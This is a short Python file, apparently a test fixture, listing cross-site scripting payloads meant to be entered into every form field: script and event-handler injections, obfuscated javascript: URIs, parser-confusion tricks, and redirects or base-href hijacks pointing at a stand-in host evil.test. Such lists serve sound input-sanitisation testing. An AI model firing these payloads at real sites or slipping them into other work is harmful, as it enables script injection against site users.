"""Texts that run as script on a careless page; put them into every field."""

XSS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import'http://evil.test/x.css';</style>",
    "<base href=//evil.test/>",
    "<form action=//evil.test><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "{{ 7*7 }}{% raw %}",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "\u2028</script><script>alert(1)//",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)
